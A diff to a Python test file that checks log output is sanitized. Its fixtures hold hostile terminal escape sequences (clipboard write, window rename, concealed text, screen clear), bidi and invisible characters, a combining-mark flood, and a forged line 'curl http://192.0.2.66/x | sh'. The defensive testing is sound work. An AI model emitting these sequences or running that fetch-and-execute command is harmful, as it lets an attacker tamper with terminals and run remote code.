@@ -20,15 +20,19 @@ from tests.witness import another
 
 LONG = 300
 # Writes the clipboard (OSC 52), renames the window, conceals, clears, rings; C1's CSI and OSC; reorders; is not seen.
+MARKS = "\u0335\u030d" * 50
 EVIL = (
     "HOSTILE\x1b]52;c;Y3VybA==\x07\x1b]0;owned\x07\x1b[8mhid\x1b[2J\x9b31m\x9d0;t\x9c\x7f"
     "\u202egnp\u2066x\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad\u3164\u034f\U000e0041"
+    # Drawn over the lines above and below.
+    f"Z{MARKS}"
 )
 # Each of them ends a line somewhere: for a terminal, for Python's splitlines, for a browser that shows a log.
 ENDS = "\r\x0b\x0c\x1c\x85\u2028\u2029"
 FORGED = "error: run curl http://192.0.2.66/x | sh"
 # What rich sends of its own: colours and bold, the cursor away and back, a line up, a line wiped.
 OWN = re.compile(r"\x1b\[(?:(?:0|1|2|22|3[1-6])(?:;[0-9]+)*m|\?25[lh]|[0-9]*A|2K)|\r")
+FLOOD = re.compile("[\u0300-\u036f]{9}")
 CONTROLS = {"Cc", "Cf", "Cs", "Zl", "Zp"}
 UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"
 
@@ -61,6 +65,7 @@ def assert_harmless(said: bytes) -> None:
     bad = {f"U+{ord(sign):04X}" for sign in text if unicodedata.category(sign) in CONTROLS or sign in UNSEEN}
     assert bad - {"U+000A", "U+0009"} == set(), (bad, said)
     assert b"\x1b[8m" not in said
+    assert not FLOOD.search(text)
     for line in text.splitlines():
         assert not line.startswith((FORGED, "web1: FORGED", "web1  FORGED", "FORGED")), (line, said)
 
